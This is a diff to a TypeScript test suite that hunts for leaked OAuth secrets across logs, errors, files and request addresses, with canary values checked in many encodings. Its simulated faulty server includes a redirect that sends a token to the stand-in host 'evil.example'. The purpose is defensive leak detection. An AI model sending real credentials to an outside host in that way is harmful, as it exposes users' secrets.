@@ -9,6 +9,7 @@ import { testConnection } from '../../src/core/sessions/connectionTest.ts';
 import type { Misbehavior } from '../../sandbox/misbehavior.ts';
 import { startSandbox, type Sandbox } from '../../sandbox/sandbox.ts';
 import { startSignIn } from '../support/browserSignIn.ts';
+import { Canaries, encodingsOf, everythingOf, type Surface } from '../support/canaries.ts';
 import { openOAuthFixture, released, type OAuthWindow, type OAuthFixture } from '../support/oauthFixture.ts';
 
 type TokenFault = Exclude<Misbehavior['token'], undefined>;
@@ -91,23 +92,23 @@ describe('the search for leaked secrets', () => {
         .map(async (entry) => `${entry.name}\n${await readFile(join(entry.parentPath, entry.name), 'latin1')}`),
     );
     return [
-      { name: 'log before redaction', text: raw.join('\n') },
-      { name: 'log', text: log.join('\n') },
-      ...errors.map((error) => ({ name: `error ${error.message}`, text: everythingOf(error) })),
-      { name: 'files beside the secrets', text: files.join('\n') },
-      { name: 'keys of the secrets', text: Object.values(window.secrets.calls).flat().join('\n') },
+      { name: 'log before redaction', pieces: raw },
+      { name: 'log', pieces: log },
+      ...errors.map((error) => ({ name: `error ${error.message}`, pieces: [everythingOf(error)] })),
+      { name: 'files beside the secrets', pieces: files },
+      { name: 'keys of the secrets', pieces: Object.values(window.secrets.calls).flat() },
       {
         name: 'addresses that the server received',
-        text: sandbox.requests.map(({ path, query }) => `${path}?${query.toString()}`).join('\n'),
+        pieces: sandbox.requests.map(({ path, query }) => `${path}?${query.toString()}`),
         // The server has to see the state.
         except: ['state'],
       },
-      { name: 'addresses of requests', text: window.sent.map(({ url }) => url).join('\n') },
+      { name: 'addresses of requests', pieces: window.sent.map(({ url }) => url) },
       {
         name: 'accounts of the sessions',
-        text: inspect(
-          window.changes.flatMap(({ added, changed }) => [...added, ...changed]).map(({ account }) => account),
-        ),
+        pieces: window.changes
+          .flatMap(({ added, changed }) => [...added, ...changed])
+          .map(({ account }) => inspect(account)),
       },
     ];
   }
@@ -202,17 +203,20 @@ describe('the search for leaked secrets', () => {
     assert.deepEqual(canaries.hits(await surfaces()), []);
   });
 
-  it('would find a value in any encoding and deep inside an error (T46)', () => {
-    canaries.add('token', 'abc+def/ghi"jkl=.mno');
-    for (const [encoding, text] of canaries.encodings('abc+def/ghi"jkl=.mno')) {
-      assert.equal(canaries.hits([{ name: 'planted', text: `before${text}after` }]).length > 0, true, encoding);
+  it('would find a value in any encoding, in two lines, and deep inside an error (T46)', () => {
+    const token = `abc+def/ghi"jkl=.mno~!'(p)`;
+    canaries.add('token', token);
+    for (const [encoding, text] of Object.entries(encodingsOf(token))) {
+      for (const pieces of [[`before${text}after`], [`before${text.slice(0, 5)}`, `${text.slice(5)}after`]]) {
+        assert.ok(canaries.hits([{ name: 'planted', pieces }]).length > 0, `${encoding} in ${pieces.length}`);
+      }
     }
-    const cause = Object.assign(new Error('inner'), {
-      request: { headers: [{ deep: { body: 'x=abc+def/ghi"jkl=.mno' } }] },
-    });
+    const credentials = Buffer.from(`client:${token}`).toString('base64');
+    assert.notDeepEqual(canaries.hits([{ name: 'header', pieces: [`Basic ${credentials}`] }]), []);
+    const cause = Object.assign(new Error('inner'), { request: { headers: [{ deep: { body: `x=${token}` } }] } });
     const outer = new Error('outer', { cause: new AggregateError([cause]) });
-    assert.notDeepEqual(canaries.hits([{ name: 'error', text: everythingOf(outer) }]), []);
-    assert.deepEqual(canaries.hits([{ name: 'clean', text: everythingOf(new Error('clean')) }]), []);
+    assert.notDeepEqual(canaries.hits([{ name: 'error', pieces: [everythingOf(outer)] }]), []);
+    assert.deepEqual(canaries.hits([{ name: 'clean', pieces: [everythingOf(new Error('clean'))] }]), []);
   });
 });
 
@@ -221,12 +225,10 @@ type ResponseFault = Extract<TokenFault, { readonly kind: 'response' }>;
 /** Responses of a server that repeats what it was sent, in each form in which it may have received it. */
 function quoting(...sent: readonly string[]): ResponseFault[] {
   const shapes = sent.flatMap((value) => [
-    value,
-    encodeURIComponent(value),
-    encodeURIComponent(value).replace(/%../g, (escape) => escape.toLowerCase()),
+    ...new Set(Object.values(encodingsOf(value))),
     new URLSearchParams({ value }).toString(),
     JSON.stringify({ value }),
-    Buffer.from(value).toString('base64'),
+    Buffer.from(`sandbox-web:${value}`).toString('base64'),
   ]);
   return shapes.flatMap((shape): ResponseFault[] => {
     // Some JSON encoders for web pages escape these characters.
@@ -245,70 +247,6 @@ function quoting(...sent: readonly string[]): ResponseFault[] {
       { kind: 'response', status: 302, headers: { location: `https://evil.example/${encodeURIComponent(shape)}` } },
     ];
   });
-}
-
-interface Surface {
-  readonly name: string;
-  readonly text: string;
-  /** Kinds of canaries that are allowed there. */
-  readonly except?: readonly string[];
-}
-
-/** Values that must not appear anywhere, in any of the encodings that are used for them. */
-class Canaries {
-  readonly #values = new Map<string, string>();
-
-  get size(): number {
-    return this.#values.size;
-  }
-
-  add(kind: string, value: string): this {
-    assert.ok(value.length > 12, `${kind} is too short to be looked for`);
-    this.#values.set(value, kind);
-    return this;
-  }
-
-  values(): IterableIterator<string> {
-    return this.#values.keys();
-  }
-
-  encodings(value: string): [encoding: string, text: string][] {
-    const bytes = Buffer.from(value);
-    return [
-      ['plain', value],
-      // Without the last characters, which depend on what follows.
-      ['base64', bytes.toString('base64').replace(/.{0,3}=*$/, '')],
-      ['base64url', bytes.toString('base64url').slice(0, -3)],
-      ['URL', encodeURIComponent(value)],
-      ['form', new URLSearchParams({ v: value }).toString().slice(2)],
-      ['JSON', JSON.stringify(value).slice(1, -1)],
-      ['hex', bytes.toString('hex')],
-    ];
-  }
-
-  hits(surfaces: readonly Surface[]): string[] {
-    return surfaces.flatMap(({ name, text, except = [] }) =>
-      [...this.#values].flatMap(([value, kind]) =>
-        except.includes(kind)
-          ? []
-          : this.encodings(value)
-              .filter(([, encoded]) => text.toLowerCase().includes(encoded.toLowerCase()))
-              .map(([encoding]) => `${kind} (${encoding}) in ${name}`),
-      ),
-    );
-  }
-}
-
-/** Message, stack, cause and all other properties, hidden ones included. */
-function everythingOf(error: Error): string {
-  return [
-    error.message,
-    error.stack,
-    String(error.cause),
-    inspect(error, { depth: Infinity, showHidden: true, getters: true, maxArrayLength: null, maxStringLength: null }),
-    JSON.stringify(error),
-    JSON.stringify(Object.getOwnPropertyDescriptors(error)),
-  ].join('\n');
 }
 
 function recorder(lines: string[]): Logger {
